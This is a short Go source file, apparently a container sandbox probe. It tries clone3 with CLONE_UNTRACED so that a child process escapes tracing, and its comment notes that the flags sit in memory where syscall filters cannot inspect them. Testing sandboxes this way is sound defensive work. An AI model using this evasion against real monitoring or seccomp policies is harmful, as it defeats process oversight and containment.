package main

import (
	"unsafe"

	"golang.org/x/sys/unix"
)

// Makes a child that no tracer follows, by flags that lie in memory, where no
// filter sees them.
func attack(where string) {
	if where != "container" {
		return
	}
	for _, flags := range []uint64{0, unix.CLONE_PARENT, unix.CLONE_VFORK} {
		args := [8]uint64{0: flags | unix.CLONE_UNTRACED, 4: uint64(unix.SIGCHLD)}
		pid, _, errno := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args)), unsafe.Sizeof(args), 0)
		if errno == 0 && pid == 0 {
			for {
				unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
			}
		}
		tried("hide a child", errno)
	}
}
